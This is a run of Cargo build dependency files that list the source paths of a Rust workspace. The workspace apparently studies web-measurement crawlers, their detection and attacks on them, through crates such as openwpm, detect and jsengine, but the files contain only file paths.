/root/repo/target/release/examples/wild_scan-4f2f8f9983296ae0.d: crates/core/../../examples/wild_scan.rs

/root/repo/target/release/examples/wild_scan-4f2f8f9983296ae0: crates/core/../../examples/wild_scan.rs

crates/core/../../examples/wild_scan.rs:
