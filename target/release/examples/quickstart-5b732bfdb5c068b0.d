/root/repo/target/release/examples/quickstart-5b732bfdb5c068b0.d: crates/core/../../examples/quickstart.rs

/root/repo/target/release/examples/quickstart-5b732bfdb5c068b0: crates/core/../../examples/quickstart.rs

crates/core/../../examples/quickstart.rs:
