/root/repo/target/release/examples/fingerprint_surface-fff7e6000c5dda7d.d: crates/core/../../examples/fingerprint_surface.rs

/root/repo/target/release/examples/fingerprint_surface-fff7e6000c5dda7d: crates/core/../../examples/fingerprint_surface.rs

crates/core/../../examples/fingerprint_surface.rs:
