/root/repo/target/release/examples/harden_and_compare-b86e13a949317a17.d: crates/core/../../examples/harden_and_compare.rs

/root/repo/target/release/examples/harden_and_compare-b86e13a949317a17: crates/core/../../examples/harden_and_compare.rs

crates/core/../../examples/harden_and_compare.rs:
