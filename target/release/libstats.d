/root/repo/target/release/libstats.rlib: /root/repo/crates/stats/src/descriptive.rs /root/repo/crates/stats/src/lib.rs /root/repo/crates/stats/src/ratcliff.rs /root/repo/crates/stats/src/wilcoxon.rs
