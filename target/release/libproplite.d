/root/repo/target/release/libproplite.rlib: /root/repo/crates/proplite/src/lib.rs
