/root/repo/target/release/deps/table01-c46a7745a9a5970c.d: crates/bench/src/bin/table01.rs

/root/repo/target/release/deps/table01-c46a7745a9a5970c: crates/bench/src/bin/table01.rs

crates/bench/src/bin/table01.rs:
