/root/repo/target/release/deps/browser-a76787fe95e77e82.d: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs

/root/repo/target/release/deps/libbrowser-a76787fe95e77e82.rlib: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs

/root/repo/target/release/deps/libbrowser-a76787fe95e77e82.rmeta: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs

crates/browser/src/lib.rs:
crates/browser/src/csp.rs:
crates/browser/src/hostobjects.rs:
crates/browser/src/page.rs:
crates/browser/src/profile.rs:
crates/browser/src/template.rs:
crates/browser/src/webgl.rs:
