/root/repo/target/release/deps/table04-f50641561ae85137.d: crates/bench/src/bin/table04.rs

/root/repo/target/release/deps/table04-f50641561ae85137: crates/bench/src/bin/table04.rs

crates/bench/src/bin/table04.rs:
