/root/repo/target/release/deps/figure06-93defb0aec6beb00.d: crates/bench/src/bin/figure06.rs

/root/repo/target/release/deps/figure06-93defb0aec6beb00: crates/bench/src/bin/figure06.rs

crates/bench/src/bin/figure06.rs:
