/root/repo/target/release/deps/detect-95b9dc12461fb2ed.d: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs

/root/repo/target/release/deps/libdetect-95b9dc12461fb2ed.rlib: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs

/root/repo/target/release/deps/libdetect-95b9dc12461fb2ed.rmeta: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs

crates/detect/src/lib.rs:
crates/detect/src/corpus.rs:
crates/detect/src/dynamic_analysis.rs:
crates/detect/src/static_analysis.rs:
