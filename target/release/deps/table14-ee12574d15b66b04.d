/root/repo/target/release/deps/table14-ee12574d15b66b04.d: crates/bench/src/bin/table14.rs

/root/repo/target/release/deps/table14-ee12574d15b66b04: crates/bench/src/bin/table14.rs

crates/bench/src/bin/table14.rs:
