/root/repo/target/release/deps/table01-e1f4bbade650a29a.d: crates/bench/src/bin/table01.rs

/root/repo/target/release/deps/table01-e1f4bbade650a29a: crates/bench/src/bin/table01.rs

crates/bench/src/bin/table01.rs:
