/root/repo/target/release/deps/detect-330cc3481a22accf.d: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs

/root/repo/target/release/deps/detect-330cc3481a22accf: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs

crates/detect/src/lib.rs:
crates/detect/src/corpus.rs:
crates/detect/src/dynamic_analysis.rs:
crates/detect/src/static_analysis.rs:
