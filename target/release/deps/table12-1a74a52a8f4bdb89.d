/root/repo/target/release/deps/table12-1a74a52a8f4bdb89.d: crates/bench/src/bin/table12.rs

/root/repo/target/release/deps/table12-1a74a52a8f4bdb89: crates/bench/src/bin/table12.rs

crates/bench/src/bin/table12.rs:
