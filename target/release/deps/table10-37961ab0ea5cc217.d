/root/repo/target/release/deps/table10-37961ab0ea5cc217.d: crates/bench/src/bin/table10.rs

/root/repo/target/release/deps/table10-37961ab0ea5cc217: crates/bench/src/bin/table10.rs

crates/bench/src/bin/table10.rs:
