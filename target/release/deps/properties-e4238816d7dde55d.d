/root/repo/target/release/deps/properties-e4238816d7dde55d.d: crates/stats/tests/properties.rs

/root/repo/target/release/deps/properties-e4238816d7dde55d: crates/stats/tests/properties.rs

crates/stats/tests/properties.rs:
