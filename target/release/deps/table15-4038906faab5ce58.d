/root/repo/target/release/deps/table15-4038906faab5ce58.d: crates/bench/src/bin/table15.rs

/root/repo/target/release/deps/table15-4038906faab5ce58: crates/bench/src/bin/table15.rs

crates/bench/src/bin/table15.rs:
