/root/repo/target/release/deps/properties-b2df7a5ea85fc264.d: crates/webgen/tests/properties.rs

/root/repo/target/release/deps/properties-b2df7a5ea85fc264: crates/webgen/tests/properties.rs

crates/webgen/tests/properties.rs:
