/root/repo/target/release/deps/table11-d0a27f810076ac3c.d: crates/bench/src/bin/table11.rs

/root/repo/target/release/deps/table11-d0a27f810076ac3c: crates/bench/src/bin/table11.rs

crates/bench/src/bin/table11.rs:
