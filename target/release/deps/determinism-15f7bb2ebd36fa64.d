/root/repo/target/release/deps/determinism-15f7bb2ebd36fa64.d: crates/core/../../tests/determinism.rs

/root/repo/target/release/deps/determinism-15f7bb2ebd36fa64: crates/core/../../tests/determinism.rs

crates/core/../../tests/determinism.rs:
