/root/repo/target/release/deps/table06-3e8fcc5b017530b6.d: crates/bench/src/bin/table06.rs

/root/repo/target/release/deps/table06-3e8fcc5b017530b6: crates/bench/src/bin/table06.rs

crates/bench/src/bin/table06.rs:
