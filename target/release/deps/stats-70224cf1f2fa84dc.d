/root/repo/target/release/deps/stats-70224cf1f2fa84dc.d: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs

/root/repo/target/release/deps/stats-70224cf1f2fa84dc: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs

crates/stats/src/lib.rs:
crates/stats/src/descriptive.rs:
crates/stats/src/ratcliff.rs:
crates/stats/src/wilcoxon.rs:
