/root/repo/target/release/deps/gullible-7e58c6d5be6c4f09.d: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs

/root/repo/target/release/deps/gullible-7e58c6d5be6c4f09: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs

crates/core/src/lib.rs:
crates/core/src/attacks.rs:
crates/core/src/compare.rs:
crates/core/src/literature.rs:
crates/core/src/report.rs:
crates/core/src/scan.rs:
crates/core/src/surface.rs:
