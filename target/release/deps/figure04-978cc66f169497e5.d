/root/repo/target/release/deps/figure04-978cc66f169497e5.d: crates/bench/src/bin/figure04.rs

/root/repo/target/release/deps/figure04-978cc66f169497e5: crates/bench/src/bin/figure04.rs

crates/bench/src/bin/figure04.rs:
