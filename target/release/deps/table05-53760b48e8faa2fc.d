/root/repo/target/release/deps/table05-53760b48e8faa2fc.d: crates/bench/src/bin/table05.rs

/root/repo/target/release/deps/table05-53760b48e8faa2fc: crates/bench/src/bin/table05.rs

crates/bench/src/bin/table05.rs:
