/root/repo/target/release/deps/figure02-a0a116494df37ec3.d: crates/bench/src/bin/figure02.rs

/root/repo/target/release/deps/figure02-a0a116494df37ec3: crates/bench/src/bin/figure02.rs

crates/bench/src/bin/figure02.rs:
