/root/repo/target/release/deps/table05-e1d405b126586a3d.d: crates/bench/src/bin/table05.rs

/root/repo/target/release/deps/table05-e1d405b126586a3d: crates/bench/src/bin/table05.rs

crates/bench/src/bin/table05.rs:
