/root/repo/target/release/deps/table07-fe1cbb5c96f921c1.d: crates/bench/src/bin/table07.rs

/root/repo/target/release/deps/table07-fe1cbb5c96f921c1: crates/bench/src/bin/table07.rs

crates/bench/src/bin/table07.rs:
