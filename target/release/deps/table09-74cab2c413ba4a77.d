/root/repo/target/release/deps/table09-74cab2c413ba4a77.d: crates/bench/src/bin/table09.rs

/root/repo/target/release/deps/table09-74cab2c413ba4a77: crates/bench/src/bin/table09.rs

crates/bench/src/bin/table09.rs:
