/root/repo/target/release/deps/webgen-52847fcfcf368e11.d: crates/webgen/src/lib.rs crates/webgen/src/behaviour.rs crates/webgen/src/blocklists.rs crates/webgen/src/categories.rs crates/webgen/src/materialise.rs crates/webgen/src/providers.rs crates/webgen/src/site.rs

/root/repo/target/release/deps/webgen-52847fcfcf368e11: crates/webgen/src/lib.rs crates/webgen/src/behaviour.rs crates/webgen/src/blocklists.rs crates/webgen/src/categories.rs crates/webgen/src/materialise.rs crates/webgen/src/providers.rs crates/webgen/src/site.rs

crates/webgen/src/lib.rs:
crates/webgen/src/behaviour.rs:
crates/webgen/src/blocklists.rs:
crates/webgen/src/categories.rs:
crates/webgen/src/materialise.rs:
crates/webgen/src/providers.rs:
crates/webgen/src/site.rs:
