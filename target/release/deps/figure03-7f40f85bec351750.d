/root/repo/target/release/deps/figure03-7f40f85bec351750.d: crates/bench/src/bin/figure03.rs

/root/repo/target/release/deps/figure03-7f40f85bec351750: crates/bench/src/bin/figure03.rs

crates/bench/src/bin/figure03.rs:
