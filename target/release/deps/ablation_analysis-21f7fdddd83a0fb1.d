/root/repo/target/release/deps/ablation_analysis-21f7fdddd83a0fb1.d: crates/bench/src/bin/ablation_analysis.rs

/root/repo/target/release/deps/ablation_analysis-21f7fdddd83a0fb1: crates/bench/src/bin/ablation_analysis.rs

crates/bench/src/bin/ablation_analysis.rs:
