/root/repo/target/release/deps/table07-bd3f383c7f453603.d: crates/bench/src/bin/table07.rs

/root/repo/target/release/deps/table07-bd3f383c7f453603: crates/bench/src/bin/table07.rs

crates/bench/src/bin/table07.rs:
