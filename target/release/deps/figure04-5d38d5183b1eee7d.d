/root/repo/target/release/deps/figure04-5d38d5183b1eee7d.d: crates/bench/src/bin/figure04.rs

/root/repo/target/release/deps/figure04-5d38d5183b1eee7d: crates/bench/src/bin/figure04.rs

crates/bench/src/bin/figure04.rs:
