/root/repo/target/release/deps/table02-5f663fc2f235a74f.d: crates/bench/src/bin/table02.rs

/root/repo/target/release/deps/table02-5f663fc2f235a74f: crates/bench/src/bin/table02.rs

crates/bench/src/bin/table02.rs:
