/root/repo/target/release/deps/properties-e32acf3bfcdae99c.d: crates/detect/tests/properties.rs

/root/repo/target/release/deps/properties-e32acf3bfcdae99c: crates/detect/tests/properties.rs

crates/detect/tests/properties.rs:
