/root/repo/target/release/deps/browser-06de1755c53a9bc5.d: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs

/root/repo/target/release/deps/browser-06de1755c53a9bc5: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs

crates/browser/src/lib.rs:
crates/browser/src/csp.rs:
crates/browser/src/hostobjects.rs:
crates/browser/src/page.rs:
crates/browser/src/profile.rs:
crates/browser/src/template.rs:
crates/browser/src/webgl.rs:
