/root/repo/target/release/deps/dom-d15d52d1d5ebb396.d: crates/browser/tests/dom.rs

/root/repo/target/release/deps/dom-d15d52d1d5ebb396: crates/browser/tests/dom.rs

crates/browser/tests/dom.rs:
