/root/repo/target/release/deps/jsengine-4a47edfc4b4b8294.d: crates/jsengine/src/lib.rs crates/jsengine/src/ast.rs crates/jsengine/src/error.rs crates/jsengine/src/interp.rs crates/jsengine/src/lexer.rs crates/jsengine/src/object.rs crates/jsengine/src/parser.rs crates/jsengine/src/value.rs crates/jsengine/src/builtins.rs

/root/repo/target/release/deps/libjsengine-4a47edfc4b4b8294.rlib: crates/jsengine/src/lib.rs crates/jsengine/src/ast.rs crates/jsengine/src/error.rs crates/jsengine/src/interp.rs crates/jsengine/src/lexer.rs crates/jsengine/src/object.rs crates/jsengine/src/parser.rs crates/jsengine/src/value.rs crates/jsengine/src/builtins.rs

/root/repo/target/release/deps/libjsengine-4a47edfc4b4b8294.rmeta: crates/jsengine/src/lib.rs crates/jsengine/src/ast.rs crates/jsengine/src/error.rs crates/jsengine/src/interp.rs crates/jsengine/src/lexer.rs crates/jsengine/src/object.rs crates/jsengine/src/parser.rs crates/jsengine/src/value.rs crates/jsengine/src/builtins.rs

crates/jsengine/src/lib.rs:
crates/jsengine/src/ast.rs:
crates/jsengine/src/error.rs:
crates/jsengine/src/interp.rs:
crates/jsengine/src/lexer.rs:
crates/jsengine/src/object.rs:
crates/jsengine/src/parser.rs:
crates/jsengine/src/value.rs:
crates/jsengine/src/builtins.rs:
