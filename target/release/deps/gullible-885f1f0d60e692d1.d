/root/repo/target/release/deps/gullible-885f1f0d60e692d1.d: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs

/root/repo/target/release/deps/libgullible-885f1f0d60e692d1.rlib: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs

/root/repo/target/release/deps/libgullible-885f1f0d60e692d1.rmeta: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs

crates/core/src/lib.rs:
crates/core/src/attacks.rs:
crates/core/src/compare.rs:
crates/core/src/literature.rs:
crates/core/src/report.rs:
crates/core/src/scan.rs:
crates/core/src/surface.rs:
