/root/repo/target/release/deps/table13-f72c3f7c5fdf04ba.d: crates/bench/src/bin/table13.rs

/root/repo/target/release/deps/table13-f72c3f7c5fdf04ba: crates/bench/src/bin/table13.rs

crates/bench/src/bin/table13.rs:
