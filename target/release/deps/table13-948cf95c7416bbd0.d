/root/repo/target/release/deps/table13-948cf95c7416bbd0.d: crates/bench/src/bin/table13.rs

/root/repo/target/release/deps/table13-948cf95c7416bbd0: crates/bench/src/bin/table13.rs

crates/bench/src/bin/table13.rs:
