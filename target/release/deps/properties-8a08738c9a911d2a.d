/root/repo/target/release/deps/properties-8a08738c9a911d2a.d: crates/openwpm/tests/properties.rs

/root/repo/target/release/deps/properties-8a08738c9a911d2a: crates/openwpm/tests/properties.rs

crates/openwpm/tests/properties.rs:
