/root/repo/target/release/deps/bench-5b7b09335016f658.d: crates/bench/src/lib.rs

/root/repo/target/release/deps/libbench-5b7b09335016f658.rlib: crates/bench/src/lib.rs

/root/repo/target/release/deps/libbench-5b7b09335016f658.rmeta: crates/bench/src/lib.rs

crates/bench/src/lib.rs:
