/root/repo/target/release/deps/bench-a4d74061a4d61b12.d: crates/bench/src/lib.rs

/root/repo/target/release/deps/bench-a4d74061a4d61b12: crates/bench/src/lib.rs

crates/bench/src/lib.rs:
