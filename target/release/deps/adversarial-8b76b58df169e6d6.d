/root/repo/target/release/deps/adversarial-8b76b58df169e6d6.d: crates/jsengine/tests/adversarial.rs

/root/repo/target/release/deps/adversarial-8b76b58df169e6d6: crates/jsengine/tests/adversarial.rs

crates/jsengine/tests/adversarial.rs:
