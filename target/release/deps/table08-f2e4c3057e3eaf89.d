/root/repo/target/release/deps/table08-f2e4c3057e3eaf89.d: crates/bench/src/bin/table08.rs

/root/repo/target/release/deps/table08-f2e4c3057e3eaf89: crates/bench/src/bin/table08.rs

crates/bench/src/bin/table08.rs:
