/root/repo/target/release/deps/table15-11725f1bd6564673.d: crates/bench/src/bin/table15.rs

/root/repo/target/release/deps/table15-11725f1bd6564673: crates/bench/src/bin/table15.rs

crates/bench/src/bin/table15.rs:
