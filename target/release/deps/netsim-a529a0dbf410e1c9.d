/root/repo/target/release/deps/netsim-a529a0dbf410e1c9.d: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs

/root/repo/target/release/deps/libnetsim-a529a0dbf410e1c9.rlib: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs

/root/repo/target/release/deps/libnetsim-a529a0dbf410e1c9.rmeta: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs

crates/netsim/src/lib.rs:
crates/netsim/src/blocklist.rs:
crates/netsim/src/cookies.rs:
crates/netsim/src/http.rs:
crates/netsim/src/url.rs:
