/root/repo/target/release/deps/openwpm-28e6da976d85d576.d: crates/openwpm/src/lib.rs crates/openwpm/src/config.rs crates/openwpm/src/fault.rs crates/openwpm/src/instrument/mod.rs crates/openwpm/src/instrument/honey.rs crates/openwpm/src/instrument/http.rs crates/openwpm/src/instrument/stealth.rs crates/openwpm/src/instrument/vanilla.rs crates/openwpm/src/instrument/watch.rs crates/openwpm/src/manager.rs crates/openwpm/src/records.rs crates/openwpm/src/supervisor.rs crates/openwpm/src/wpm_browser.rs

/root/repo/target/release/deps/libopenwpm-28e6da976d85d576.rlib: crates/openwpm/src/lib.rs crates/openwpm/src/config.rs crates/openwpm/src/fault.rs crates/openwpm/src/instrument/mod.rs crates/openwpm/src/instrument/honey.rs crates/openwpm/src/instrument/http.rs crates/openwpm/src/instrument/stealth.rs crates/openwpm/src/instrument/vanilla.rs crates/openwpm/src/instrument/watch.rs crates/openwpm/src/manager.rs crates/openwpm/src/records.rs crates/openwpm/src/supervisor.rs crates/openwpm/src/wpm_browser.rs

/root/repo/target/release/deps/libopenwpm-28e6da976d85d576.rmeta: crates/openwpm/src/lib.rs crates/openwpm/src/config.rs crates/openwpm/src/fault.rs crates/openwpm/src/instrument/mod.rs crates/openwpm/src/instrument/honey.rs crates/openwpm/src/instrument/http.rs crates/openwpm/src/instrument/stealth.rs crates/openwpm/src/instrument/vanilla.rs crates/openwpm/src/instrument/watch.rs crates/openwpm/src/manager.rs crates/openwpm/src/records.rs crates/openwpm/src/supervisor.rs crates/openwpm/src/wpm_browser.rs

crates/openwpm/src/lib.rs:
crates/openwpm/src/config.rs:
crates/openwpm/src/fault.rs:
crates/openwpm/src/instrument/mod.rs:
crates/openwpm/src/instrument/honey.rs:
crates/openwpm/src/instrument/http.rs:
crates/openwpm/src/instrument/stealth.rs:
crates/openwpm/src/instrument/vanilla.rs:
crates/openwpm/src/instrument/watch.rs:
crates/openwpm/src/manager.rs:
crates/openwpm/src/records.rs:
crates/openwpm/src/supervisor.rs:
crates/openwpm/src/wpm_browser.rs:
