/root/repo/target/release/deps/table03-fbf2b221b2fbfc70.d: crates/bench/src/bin/table03.rs

/root/repo/target/release/deps/table03-fbf2b221b2fbfc70: crates/bench/src/bin/table03.rs

crates/bench/src/bin/table03.rs:
