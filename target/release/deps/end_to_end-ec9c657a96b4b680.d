/root/repo/target/release/deps/end_to_end-ec9c657a96b4b680.d: crates/core/../../tests/end_to_end.rs

/root/repo/target/release/deps/end_to_end-ec9c657a96b4b680: crates/core/../../tests/end_to_end.rs

crates/core/../../tests/end_to_end.rs:
