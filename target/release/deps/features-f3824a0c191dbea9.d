/root/repo/target/release/deps/features-f3824a0c191dbea9.d: crates/openwpm/tests/features.rs

/root/repo/target/release/deps/features-f3824a0c191dbea9: crates/openwpm/tests/features.rs

crates/openwpm/tests/features.rs:
