/root/repo/target/release/deps/table12-108be4961981d1b7.d: crates/bench/src/bin/table12.rs

/root/repo/target/release/deps/table12-108be4961981d1b7: crates/bench/src/bin/table12.rs

crates/bench/src/bin/table12.rs:
