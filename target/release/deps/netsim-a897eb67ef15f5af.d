/root/repo/target/release/deps/netsim-a897eb67ef15f5af.d: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs

/root/repo/target/release/deps/netsim-a897eb67ef15f5af: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs

crates/netsim/src/lib.rs:
crates/netsim/src/blocklist.rs:
crates/netsim/src/cookies.rs:
crates/netsim/src/http.rs:
crates/netsim/src/url.rs:
