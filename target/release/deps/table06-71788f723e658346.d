/root/repo/target/release/deps/table06-71788f723e658346.d: crates/bench/src/bin/table06.rs

/root/repo/target/release/deps/table06-71788f723e658346: crates/bench/src/bin/table06.rs

crates/bench/src/bin/table06.rs:
