/root/repo/target/release/deps/table10-5f101e0e2da845ea.d: crates/bench/src/bin/table10.rs

/root/repo/target/release/deps/table10-5f101e0e2da845ea: crates/bench/src/bin/table10.rs

crates/bench/src/bin/table10.rs:
