/root/repo/target/release/deps/repro-c26f469b7c16f69b.d: crates/bench/src/bin/repro.rs

/root/repo/target/release/deps/repro-c26f469b7c16f69b: crates/bench/src/bin/repro.rs

crates/bench/src/bin/repro.rs:
