/root/repo/target/release/deps/ablation_analysis-969cda4ecec31765.d: crates/bench/src/bin/ablation_analysis.rs

/root/repo/target/release/deps/ablation_analysis-969cda4ecec31765: crates/bench/src/bin/ablation_analysis.rs

crates/bench/src/bin/ablation_analysis.rs:
