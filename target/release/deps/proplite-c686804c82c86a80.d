/root/repo/target/release/deps/proplite-c686804c82c86a80.d: crates/proplite/src/lib.rs

/root/repo/target/release/deps/libproplite-c686804c82c86a80.rlib: crates/proplite/src/lib.rs

/root/repo/target/release/deps/libproplite-c686804c82c86a80.rmeta: crates/proplite/src/lib.rs

crates/proplite/src/lib.rs:
