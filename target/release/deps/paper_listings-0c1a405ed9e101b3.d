/root/repo/target/release/deps/paper_listings-0c1a405ed9e101b3.d: crates/core/../../tests/paper_listings.rs

/root/repo/target/release/deps/paper_listings-0c1a405ed9e101b3: crates/core/../../tests/paper_listings.rs

crates/core/../../tests/paper_listings.rs:
