/root/repo/target/release/deps/table09-594fbc6765706106.d: crates/bench/src/bin/table09.rs

/root/repo/target/release/deps/table09-594fbc6765706106: crates/bench/src/bin/table09.rs

crates/bench/src/bin/table09.rs:
