/root/repo/target/release/deps/language-73d5563ade62a30a.d: crates/jsengine/tests/language.rs

/root/repo/target/release/deps/language-73d5563ade62a30a: crates/jsengine/tests/language.rs

crates/jsengine/tests/language.rs:
