/root/repo/target/release/deps/table11-c60bea69ab498c0f.d: crates/bench/src/bin/table11.rs

/root/repo/target/release/deps/table11-c60bea69ab498c0f: crates/bench/src/bin/table11.rs

crates/bench/src/bin/table11.rs:
