/root/repo/target/release/deps/figure03-e9cd5d31fc6c52fa.d: crates/bench/src/bin/figure03.rs

/root/repo/target/release/deps/figure03-e9cd5d31fc6c52fa: crates/bench/src/bin/figure03.rs

crates/bench/src/bin/figure03.rs:
