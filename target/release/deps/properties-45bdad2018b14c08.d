/root/repo/target/release/deps/properties-45bdad2018b14c08.d: crates/jsengine/tests/properties.rs

/root/repo/target/release/deps/properties-45bdad2018b14c08: crates/jsengine/tests/properties.rs

crates/jsengine/tests/properties.rs:
