/root/repo/target/release/deps/table02-ec6cc77fd2e5ad0d.d: crates/bench/src/bin/table02.rs

/root/repo/target/release/deps/table02-ec6cc77fd2e5ad0d: crates/bench/src/bin/table02.rs

crates/bench/src/bin/table02.rs:
