/root/repo/target/release/deps/properties-90febaedae68a632.d: crates/netsim/tests/properties.rs

/root/repo/target/release/deps/properties-90febaedae68a632: crates/netsim/tests/properties.rs

crates/netsim/tests/properties.rs:
