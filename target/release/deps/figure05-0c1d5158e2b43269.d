/root/repo/target/release/deps/figure05-0c1d5158e2b43269.d: crates/bench/src/bin/figure05.rs

/root/repo/target/release/deps/figure05-0c1d5158e2b43269: crates/bench/src/bin/figure05.rs

crates/bench/src/bin/figure05.rs:
