/root/repo/target/release/deps/openwpm-909c9f54f59dce8d.d: crates/openwpm/src/lib.rs crates/openwpm/src/config.rs crates/openwpm/src/instrument/mod.rs crates/openwpm/src/instrument/honey.rs crates/openwpm/src/instrument/http.rs crates/openwpm/src/instrument/stealth.rs crates/openwpm/src/instrument/vanilla.rs crates/openwpm/src/instrument/watch.rs crates/openwpm/src/manager.rs crates/openwpm/src/records.rs crates/openwpm/src/wpm_browser.rs

/root/repo/target/release/deps/openwpm-909c9f54f59dce8d: crates/openwpm/src/lib.rs crates/openwpm/src/config.rs crates/openwpm/src/instrument/mod.rs crates/openwpm/src/instrument/honey.rs crates/openwpm/src/instrument/http.rs crates/openwpm/src/instrument/stealth.rs crates/openwpm/src/instrument/vanilla.rs crates/openwpm/src/instrument/watch.rs crates/openwpm/src/manager.rs crates/openwpm/src/records.rs crates/openwpm/src/wpm_browser.rs

crates/openwpm/src/lib.rs:
crates/openwpm/src/config.rs:
crates/openwpm/src/instrument/mod.rs:
crates/openwpm/src/instrument/honey.rs:
crates/openwpm/src/instrument/http.rs:
crates/openwpm/src/instrument/stealth.rs:
crates/openwpm/src/instrument/vanilla.rs:
crates/openwpm/src/instrument/watch.rs:
crates/openwpm/src/manager.rs:
crates/openwpm/src/records.rs:
crates/openwpm/src/wpm_browser.rs:
