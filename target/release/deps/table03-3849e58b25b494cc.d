/root/repo/target/release/deps/table03-3849e58b25b494cc.d: crates/bench/src/bin/table03.rs

/root/repo/target/release/deps/table03-3849e58b25b494cc: crates/bench/src/bin/table03.rs

crates/bench/src/bin/table03.rs:
