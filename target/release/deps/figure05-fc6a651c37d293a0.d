/root/repo/target/release/deps/figure05-fc6a651c37d293a0.d: crates/bench/src/bin/figure05.rs

/root/repo/target/release/deps/figure05-fc6a651c37d293a0: crates/bench/src/bin/figure05.rs

crates/bench/src/bin/figure05.rs:
