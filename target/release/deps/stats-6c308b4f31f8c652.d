/root/repo/target/release/deps/stats-6c308b4f31f8c652.d: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs

/root/repo/target/release/deps/libstats-6c308b4f31f8c652.rlib: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs

/root/repo/target/release/deps/libstats-6c308b4f31f8c652.rmeta: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs

crates/stats/src/lib.rs:
crates/stats/src/descriptive.rs:
crates/stats/src/ratcliff.rs:
crates/stats/src/wilcoxon.rs:
