/root/repo/target/release/deps/table14-6dcf81578b8ac533.d: crates/bench/src/bin/table14.rs

/root/repo/target/release/deps/table14-6dcf81578b8ac533: crates/bench/src/bin/table14.rs

crates/bench/src/bin/table14.rs:
