/root/repo/target/release/deps/proplite-dea5a729bef87649.d: crates/proplite/src/lib.rs

/root/repo/target/release/deps/proplite-dea5a729bef87649: crates/proplite/src/lib.rs

crates/proplite/src/lib.rs:
