/root/repo/target/release/deps/table04-7b37a2ca66e1312b.d: crates/bench/src/bin/table04.rs

/root/repo/target/release/deps/table04-7b37a2ca66e1312b: crates/bench/src/bin/table04.rs

crates/bench/src/bin/table04.rs:
