/root/repo/target/release/deps/figure06-be1a4a1845518ddf.d: crates/bench/src/bin/figure06.rs

/root/repo/target/release/deps/figure06-be1a4a1845518ddf: crates/bench/src/bin/figure06.rs

crates/bench/src/bin/figure06.rs:
