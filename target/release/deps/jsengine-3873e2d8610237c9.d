/root/repo/target/release/deps/jsengine-3873e2d8610237c9.d: crates/jsengine/src/lib.rs crates/jsengine/src/ast.rs crates/jsengine/src/error.rs crates/jsengine/src/interp.rs crates/jsengine/src/lexer.rs crates/jsengine/src/object.rs crates/jsengine/src/parser.rs crates/jsengine/src/value.rs crates/jsengine/src/builtins.rs

/root/repo/target/release/deps/jsengine-3873e2d8610237c9: crates/jsengine/src/lib.rs crates/jsengine/src/ast.rs crates/jsengine/src/error.rs crates/jsengine/src/interp.rs crates/jsengine/src/lexer.rs crates/jsengine/src/object.rs crates/jsengine/src/parser.rs crates/jsengine/src/value.rs crates/jsengine/src/builtins.rs

crates/jsengine/src/lib.rs:
crates/jsengine/src/ast.rs:
crates/jsengine/src/error.rs:
crates/jsengine/src/interp.rs:
crates/jsengine/src/lexer.rs:
crates/jsengine/src/object.rs:
crates/jsengine/src/parser.rs:
crates/jsengine/src/value.rs:
crates/jsengine/src/builtins.rs:
