/root/repo/target/release/deps/table08-0a149535c59e077f.d: crates/bench/src/bin/table08.rs

